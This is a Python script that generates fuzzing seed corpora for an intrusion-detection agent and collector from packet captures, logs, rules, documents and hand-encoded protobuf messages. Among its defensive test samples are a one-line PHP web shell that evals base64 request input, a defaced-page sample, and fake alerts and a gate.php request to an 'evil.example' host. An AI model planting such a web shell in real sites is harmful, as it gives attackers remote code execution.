#!/usr/bin/env python3
"""Writes the committed seed corpus fuzz/corpus/TARGET/ from the
repository's own fixtures (pcaps, logs, rules, documents; their provenance
and licences are in the READMEs next to them), cut to the shape each target
reads (see agent/src/fuzzing.rs); and for the collector's targets
(collector_telemetry, operator; see collector/src/fuzzing.rs) and the
protobuf decoders' (telemetry), real batches and operator requests encoded
in protobuf by hand here (field numbers from proto/canhgac/v1/). The
collector's `fuzz_corpus_replays` test checks that those decode.

Run from the repository root: python3 fuzz/make-corpus.py
"""
import hashlib
import os
import struct
import sys

OUT = "fuzz/corpus"
MAX_SEED = 16 * 1024


def put(target, data, limit=MAX_SEED):
    data = data[:limit]
    if not data:
        return
    d = os.path.join(OUT, target)
    os.makedirs(d, exist_ok=True)
    name = hashlib.sha1(data).hexdigest()[:16]
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def frames(path):
    """(linktype, [frame bytes]) of a classic pcap file."""
    with open(path, "rb") as f:
        b = f.read()
    e = "<" if b[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    link = struct.unpack(e + "I", b[20:24])[0]
    out, off = [], 24
    while off + 16 <= len(b):
        incl = struct.unpack(e + "I", b[off + 8 : off + 12])[0]
        out.append(b[off + 16 : off + 16 + incl])
        off += 16 + incl
    return link, out


def transport(link, frame):
    """(proto, src, sport, dst, dport, payload) of an IPv4/IPv6 TCP or UDP
    frame, or None."""
    if link == 1:
        if len(frame) < 14:
            return None
        et, ip = struct.unpack(">H", frame[12:14])[0], frame[14:]
        if et == 0x8100 and len(frame) >= 18:
            et, ip = struct.unpack(">H", frame[16:18])[0], frame[18:]
    elif link == 101:
        et, ip = (0x800 if frame[:1] and frame[0] >> 4 == 4 else 0x86DD), frame
    else:
        return None
    if et == 0x800 and len(ip) >= 20:
        ihl = (ip[0] & 15) * 4
        total = struct.unpack(">H", ip[2:4])[0]
        proto, src, dst, l4 = ip[9], ip[12:16], ip[16:20], ip[ihl:total]
    elif et == 0x86DD and len(ip) >= 40:
        proto, src, dst, l4 = ip[6], ip[8:24], ip[24:40], ip[40 : 40 + struct.unpack(">H", ip[4:6])[0]]
    else:
        return None
    if proto == 6 and len(l4) >= 20:
        sp, dp = struct.unpack(">HH", l4[:4])
        return ("tcp", src, sp, dst, dp, l4[(l4[12] >> 4) * 4 :])
    if proto == 17 and len(l4) >= 8:
        sp, dp = struct.unpack(">HH", l4[:4])
        return ("udp", src, sp, dst, dp, l4[8:])
    return None


def streams(path, port):
    """Client and server bytes of the first TCP connection to `port`
    (segments in capture order, retransmissions not removed)."""
    link, fs = frames(path)
    cli, srv, conn = b"", b"", None
    for f in fs:
        t = transport(link, f)
        if not t or t[0] != "tcp" or port not in (t[2], t[4]):
            continue
        key = (t[1], t[2], t[3], t[4]) if t[4] == port else (t[3], t[4], t[1], t[2])
        conn = conn or key
        if key != conn:
            continue
        if t[4] == port:
            cli += t[5]
        else:
            srv += t[5]
    return cli, srv


def halves(cli, srv, n=4096):
    """The two halves of the TLS and SSH targets: equal lengths."""
    n = min(len(cli), len(srv), n)
    return cli[:n] + srv[:n]


def lines(path, first, count):
    with open(path, "rb") as f:
        return b"".join(f.readlines()[first : first + count])


# ----- protobuf, for the collector's targets -----


def varint(n):
    out = b""
    while True:
        b, n = n & 0x7F, n >> 7
        if not n:
            return out + bytes([b])
        out += bytes([b | 0x80])


def f_len(no, data):
    if isinstance(data, str):
        data = data.encode()
    return varint(no << 3 | 2) + varint(len(data)) + data


def f_int(no, n):
    return varint(no << 3) + varint(n)


def f_map(no, kv):
    return b"".join(f_len(no, f_len(1, k) + f_len(2, v)) for k, v in kv)


def record(seq, kind, severity, eve):
    """canhgac.v1.Record: seq 1, kind 2 (1 alert, 2 event), severity 4, eve_json 5."""
    return f_int(1, seq) + f_int(2, kind) + (f_int(4, severity) if severity else b"") + f_len(5, eve)


def collector_seeds():
    # AgentMessage: hello 1, batch 2; Batch: records 1; Hello: protocol_version 1, agent_version 2
    batch = f_len(2, b"".join(f_len(1, r) for r in [
        record(1, 1, 2, '{"timestamp":"2026-12-01T08:00:00.000000+0700","event_type":"alert",'
               '"src_ip":"203.0.113.7","src_port":51515,"dest_ip":"10.1.2.3","dest_port":80,"proto":"TCP",'
               '"alert":{"signature_id":2000001,"signature":"ET WEB_SERVER webshell","severity":1},'
               '"http":{"hostname":"portal.example.gov.vn","url":"/upload/shell.php"},'
               '"canhgac":{"detector":"rule","agent_id":"forged"}}'),
        record(2, 2, 0, '{"event_type":"dns","dns":{"type":"query","rrname":"evil.example","rrtype":"A"}}'),
        record(3, 1, 2, '{"event_type":"alert","alert":{"severity":2},'
               '"canhgac":{"detector":"ssh_bruteforce","src":"198.51.100.4","user":"root"}}'),
    ]))
    hello = f_len(1, f_int(1, 1) + f_len(2, "0.1.0"))
    for first, m in [(0, batch), (1, hello)]:
        put("collector_telemetry", bytes([first]) + m)
        put("telemetry", m)
    # operator: the first byte picks the RPC (collector/src/fuzzing.rs)
    rules = b"\n".join(
        open(f"tests/detect/{d}/test.rules", "rb").read().strip()
        for d in ["rule-sv-tls-glupteba", "rule-sv-datasets-04-http-dns"]
    )
    policy_file = lambda name, kind, content: f_len(3, f_len(1, name) + f_len(2, kind) + f_len(3, content))
    for first, m in [
        (0, f_len(1, "SO-TTTT") + f_len(2, "Sở Thông tin và Truyền thông") + f_len(3, "agency")),
        (1, f_len(1, "SO-TTTT") + f_map(2, [("head.name", "Nguyễn Văn A"), ("head.phone", "0912345678"),
                                             ("parent", "UBND")])),
        (2, f_len(1, "SO-TTTT") + f_len(2, "Cổng thông tin điện tử") + f_int(3, 3)
         + f_map(5, [("public_ips", "203.0.113.10;203.0.113.11"), ("domains", "portal.example.gov.vn"),
                     ("networks", "10.1.0.0/16")])),
        (3, f_int(1, 1) + f_map(2, [("level", "4"), ("decision_date", "2025-03-01")])),
        (4, f_len(1, "agencies") + f_len(2, "csv") + f_len(3, "code,name,parent\nSO-A,Agency A,HN\nSO-B,Agency B,SO-A\n")),
        (4, f_len(1, "systems") + f_len(2, "json")
         + f_len(3, '[{"agency":"SO-FUZZ","name":"Mail","level":"2","domains":["mail.example.gov.vn"]},'
                    '{"id":"1","agency":"SO-FUZZ","name":"web","level":3}]')),
        # PushPolicyRequest: all 2, files 3 (PolicyFile: name 1, kind 2, content 3)
        (5, policy_file("local.rules", "rules", rules)
         + policy_file("bad.txt", "ioc", "evil.example\n203.0.113.0/24\n")
         + policy_file("agent.toml", "settings", "[detect]\nport_scan = true\n") + f_int(2, 1)),
        (6, f_int(1, 1) + f_len(2, "closed") + f_len(3, "checked") + f_len(4, "false_positive")),
        (7, f_int(1, 1) + f_map(2, [("impacts", "data_leak"), ("owner_cannot_handle", "yes"), ("summary", "webshell")])),
        (8, b"".join(f_int(1, i) for i in (1, 2, 3)) + f_len(2, "transition") + f_len(3, "triaged")),
        (9, f_len(5, "i42") + f_len(7, "10.1.2.3")),
        (10, f_len(1, "daily") + f_len(5, "pdf") + f_len(6, "vi")),
        (11, f_len(1, "nguyen.van.a@example.gov.vn") + f_len(2, "agency") + f_len(3, "SO-TTTT")
         + f_len(4, "correct horse battery staple")),
    ]:
        put("operator", bytes([first]) + m)


P = "tests/detect/_pcap/"
G = "tests/detect/_gen/"
C = "tests/secrets/corpus/"


def main():
    # engine: link type index 1 (Ethernet), then frames cut at 0xfe
    for pcap, n in [
        (P + "zeek-dns53.pcap", 8),
        (P + "sv-tls-tls-glupteba.pcap", 12),
        (P + "sv-ssh-hassh.pcap", 16),
        (P + "sv-datasets-04-http-dns.pcap", 8),
        (P + "sv-flowbit-oring.pcap", 12),
        (P + "zeek-gre-sample.pcap", 8),
        (P + "zeek-teredo.pcap", 8),
        (P + "zeek-ipv6-fragmented-dns.pcap", 8),
        (G + "icmp-tunnel.pcap", 6),
        (G + "beacon-http.pcap", 12),
    ]:
        link, fs = frames(pcap)
        idx = [0, 1, 101, 108, 113, 228, 229, 276].index(link)
        put("engine", bytes([idx]) + b"\xfe".join(fs[:n]))
        # decode: single frames
        for f in fs[:3]:
            put("decode", f)
    # dns: UDP payloads to or from port 53
    for pcap in [P + "zeek-dns53.pcap", P + "zeek-dns-txt-multiple.pcap", P + "zeek-dns-two-responses.pcap",
                 P + "sv-dns-bug-1158.pcap", P + "elastic-dns-tunnel-iodine.pcap"]:
        link, fs = frames(pcap)
        got = 0
        for f in fs:
            t = transport(link, f)
            if t and t[0] == "udp" and 53 in (t[2], t[4]) and got < 3:
                put("dns", t[5])
                got += 1
    # tls, ssh: client half, server half
    for pcap in [P + "sv-tls-tls-glupteba.pcap", P + "zeek-tls1.2.pcap", P + "zeek-tls13-ech.pcap",
                 P + "zeek-tls-conn-with-extensions.pcap"]:
        put("tls", halves(*streams(pcap, 443)))
    for pcap in [P + "sv-ssh-hassh.pcap", P + "zeek-sshguess.pcap"]:
        put("ssh", halves(*streams(pcap, 22)))
    # http: request, 0xff, response
    for pcap in [P + "sv-datasets-04-http-dns.pcap", P + "zeek-wikipedia.pcap", G + "beacon-http.pcap",
                 C + "capture/http-download-gzip-html.pcap", C + "capture/http-upload-docx.pcap"]:
        cli, srv = streams(pcap, 80)
        put("http", cli[:4096] + b"\xff" + srv[:4096])
    # authentication logs and syslog messages
    put("auth_log", lines("tests/fixtures/host/elastic-auth.log", 0, 40))
    put("auth_log", lines("tests/fixtures/host/elastic-auth.log", 5000, 40))
    put("auth_log", lines("agent/tests/fixtures/rhel4-messages.log", 0, 40))
    put("syslog", lines("agent/tests/fixtures/firewall/nft-benign.log", 0, 10))
    put("syslog", lines("agent/tests/fixtures/firewall/nft-scan.log", 0, 10))
    put("syslog", lines("agent/tests/fixtures/rhel4-messages.log", 0, 20))
    put("syslog", lines("tests/fixtures/host/elastic-auth.log", 100, 20))
    with open("agent/tests/fixtures/windows/nxlog-rdp-bruteforce.json", "rb") as f:
        put("syslog", f.read())
    # indicator lists
    put("indicators", lines(P + "maltrail-apt_sofacy.txt", 0, 60))
    for p in ["tests/detect/rule-sv-datasets-match-subdomain/domains.lst",
              "tests/detect/rule-sv-datarep-01/dns_string.rep"]:
        with open(p, "rb") as f:
            put("indicators", f.read())
    # rules: rule text, NUL, an HTTP exchange
    http = b"GET /gate.php?id=1 HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8\r\n\r\n" \
           b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello"
    for d in ["rule-sv-bug-28", "rule-sv-ssh-hassh", "rule-sv-tls-glupteba", "rule-sv-datasets-04-http-dns",
              "rule-sv-threshold-rule-flow", "stream-match-once", "http-unfinished-at-end",
              "rule-sv-detect-flow-pkts", "rule-sv-bug-7657-01"]:
        with open(f"tests/detect/{d}/test.rules", "rb") as f:
            put("rules", f.read() + b"\0" + http)
    # documents and web content
    for p in ["docx/tuyet-mat.body.docx", "docx/mat.tcvn3-font.docx", "email/mat.qp.eml",
              "email/toi-mat.zip.eml", "html/mat.windows-1258.html", "archive/mat.nested.zip",
              "archive/toi-mat.txt.gz", "legacy/mat.tcvn3.doc", "legacy/mat.xls", "bad/truncated.pdf",
              "bad/bad-flate.pdf", "negative/neg-bao-mat.vni.txt"]:
        with open(C + p, "rb") as f:
            put("documents", f.read())
    for p in ["html/none.utf-8.html", "html/tuyet-mat.entities.html"]:
        with open(C + p, "rb") as f:
            page = f.read()
        put("web_content", page + page.replace(b"</body>", b"<h1>Hacked by fuzz</h1></body>"))
    shell = b"<?php if(isset($_REQUEST['c'])){ eval(base64_decode($_REQUEST['c'])); } ?>"
    put("web_content", shell + shell)
    collector_seeds()
    return 0


if __name__ == "__main__":
    sys.exit(main())
